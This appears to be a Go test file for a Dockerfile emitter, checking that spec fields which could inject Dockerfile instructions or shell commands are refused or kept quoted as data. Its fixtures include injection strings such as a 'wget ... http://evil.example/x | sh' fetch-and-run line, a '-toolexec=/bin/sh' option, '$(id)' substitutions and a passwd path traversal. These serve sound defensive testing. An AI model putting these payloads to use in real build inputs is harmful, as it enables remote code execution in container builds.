package dockerfile

import (
	"bytes"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	bkinstructions "github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/moby/buildkit/frontend/dockerfile/shell"
	"mvdan.cc/sh/v3/syntax"

	"github.com/lighthouse-project/lighthouse/gen/emit"
	"github.com/lighthouse-project/lighthouse/gen/emit/encode"
	"github.com/lighthouse-project/lighthouse/gen/spec"
)

// notes loads the notes golden spec, whose model each case then changes
// directly: the schema would refuse these strings first, and these tests
// hold the emitter's own defence.
func notes(t *testing.T) *spec.Service {
	t.Helper()
	s, err := spec.Load(spec.Options{Dir: filepath.Join("..", "..", "..", "golden", "notes", "spec")})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

var testOptions = emit.Options{Version: "test", ContextRoot: "..", ContextDir: "deploy"}

// TestRefusesWhatAContextCannotCarry: each string that would change the
// Dockerfile's instructions, or be silently rewritten, fails the emitter
// with an encode.Error naming the spec field.
func TestRefusesWhatAContextCannotCarry(t *testing.T) {
	for _, c := range []struct {
		name, field string
		set         func(*spec.Service)
	}{
		{"newline in description starts instructions", "description", func(s *spec.Service) {
			s.Description = "notes\nFROM busybox AS evil\nRUN wget -qO- http://evil.example/x | sh\n#"
		}},
		{"bidi control in description", "description", func(s *spec.Service) { s.Description = "notes \u202eevil\u202c" }},
		{"zero-width space in description", "description", func(s *spec.Service) { s.Description = "no\u200btes" }},
		{"newline in a label value (was a literal \\n)", "labels.team", func(s *spec.Service) { s.Labels["team"] = "a\nb" }},
		{"newline in an image label value", `image.labels."org.opencontainers.image.source"`, func(s *spec.Service) {
			s.Image.Labels["org.opencontainers.image.source"] = "x\nRUN id"
		}},
		{"= in an image label key", `image.labels."a=b"`, func(s *spec.Service) { s.Image.Labels["a=b"] = "x" }},
		{"an image label that another field writes (one would be lost)", `image.labels."org.opencontainers.image.title"`, func(s *spec.Service) {
			s.Image.Labels["org.opencontainers.image.title"] = "other"
		}},
		{"two devices that write one label", `security.devices."/dev/a/b".reason`, func(s *spec.Service) {
			s.Security.Devices = append(s.Security.Devices, spec.Grant{Name: "/dev/a.b", Reason: "one reason here"}, spec.Grant{Name: "/dev/a/b", Reason: "another reason"})
		}},
		{"newline in an ENV value", "env.NOTES_LISTEN.value", func(s *spec.Service) { s.Env[0].Value = ":8080\nRUN id" }},
		{"newline in a health word", "entry.health[1]", func(s *spec.Service) { s.Entry.Health[1] = "--quick\nRUN id" }},
		{"space in the runtime image", "image.runtime", func(s *spec.Service) { s.Image.Runtime = "alpine:3.22 AS x" }},
		{"newline in the builder image", "image.builder", func(s *spec.Service) { s.Image.Builder = "golang\nRUN id" }},
		{"variable in the workdir", "image.workdir", func(s *spec.Service) { s.Image.Workdir = "/srv/$HOME" }},
		{"option as the package", "entry.package", func(s *spec.Service) { s.Entry.Package = "-toolexec=/bin/sh" }},
		{"NUL in the package", "entry.package", func(s *spec.Service) { s.Entry.Package = "./cmd/x\x00y" }},
		{"newline in a volume path", "volumes.data.path", func(s *spec.Service) { s.Volumes[0].Path = "/srv/notes/data\nRUN id" }},
		{"newline in a reason", "security.capabilities.NET_ADMIN.reason", func(s *spec.Service) {
			s.Security.Capabilities = append(s.Security.Capabilities, spec.Grant{Name: "NET_ADMIN", Reason: "why\nRUN id"})
		}},
		{"space in the binary", "entry.binary", func(s *spec.Service) { s.Entry.Binary = "notes x" }},
		{"path in the binary (was cleaned into another file)", "entry.binary", func(s *spec.Service) { s.Entry.Binary = "../../../etc/passwd" }},
		{"bad env name", `env."A B"`, func(s *spec.Service) { s.Env[0].Name = "A B" }},
		{"volume paths longer than a line BuildKit reads", "volumes", func(s *spec.Service) {
			for i := range 20 {
				s.Volumes = append(s.Volumes, spec.Volume{Name: fmt.Sprint("v", i), Path: fmt.Sprintf("/%s%d", strings.Repeat("a", 4000), i), Persistent: true, Size: "1Gi"})
			}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := notes(t)
			c.set(s)
			out, err := Emit(s, testOptions)
			es, ok := encode.AsErrors(err)
			if !ok {
				t.Fatalf("emitted without refusing (err %v):\n%s", err, out)
			}
			found := false
			for _, e := range es {
				found = found || e.Field == c.field
			}
			if !found {
				t.Errorf("refusals %v do not name %s", es, c.field)
			}
		})
	}
}

// TestShellTextStaysData: text the RUN line can carry as a quoted word
// (a package with shell syntax in it) stays one word of the one go build
// command; a label or ENV value with $ and quotes reads back as itself.
func TestShellTextStaysData(t *testing.T) {
	s := notes(t)
	s.Entry.Package = "./cmd/x && wget -qO- http://evil.example/x | sh"
	s.Labels["team"] = `a "b" $HOME \n`
	s.Env[0].Value = "$(id) `id` ${HOME} \\"
	b, err := Emit(s, testOptions)
	if err != nil {
		t.Fatal(err)
	}
	res, err := parser.Parse(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	stages, _, err := bkinstructions.Parse(res.AST, nil)
	if err != nil {
		t.Fatal(err)
	}
	var run *bkinstructions.RunCommand
	for _, c := range stages[0].Commands {
		if r, ok := c.(*bkinstructions.RunCommand); ok && strings.Contains(strings.Join(r.CmdLine, " "), "go build") {
			run = r
		}
	}
	if run == nil {
		t.Fatal("no go build RUN in the builder stage")
	}
	f, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(strings.Join(run.CmdLine, " ")), "")
	if err != nil {
		t.Fatal(err)
	}
	call, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
	if len(f.Stmts) != 1 || !ok {
		t.Fatalf("RUN is not one simple command: %s", run.CmdLine)
	}
	last := call.Args[len(call.Args)-1]
	if lit := quotedText(last); lit != s.Entry.Package {
		t.Errorf("package word reads %q, want %q", lit, s.Entry.Package)
	}
	lex := shell.NewLex(res.EscapeToken)
	final := stages[len(stages)-1]
	for _, c := range final.Commands {
		switch c := c.(type) {
		case *bkinstructions.LabelCommand:
			for _, kv := range c.Labels {
				if kv.Key == `"team"` {
					if v, _, err := lex.ProcessWord(kv.Value, shell.EnvsFromSlice([]string{"HOME=/root"})); err != nil || v != s.Labels["team"] {
						t.Errorf("label team reads %q (%v), want %q", v, err, s.Labels["team"])
					}
				}
			}
		case *bkinstructions.EnvCommand:
			for _, kv := range c.Env {
				if kv.Key == s.Env[0].Name {
					if v, _, err := lex.ProcessWord(kv.Value, shell.EnvsFromSlice([]string{"HOME=/root"})); err != nil || v != s.Env[0].Value {
						t.Errorf("ENV %s reads %q (%v), want %q", kv.Key, v, err, s.Env[0].Value)
					}
				}
			}
		}
	}
}

// quotedText is the literal text of a word made of quoted and bare
// literal parts only; "" when it expands anything.
func quotedText(w *syntax.Word) string {
	var b strings.Builder
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			b.WriteString(p.Value)
		case *syntax.SglQuoted:
			b.WriteString(p.Value)
		default:
			return ""
		}
	}
	return b.String()
}
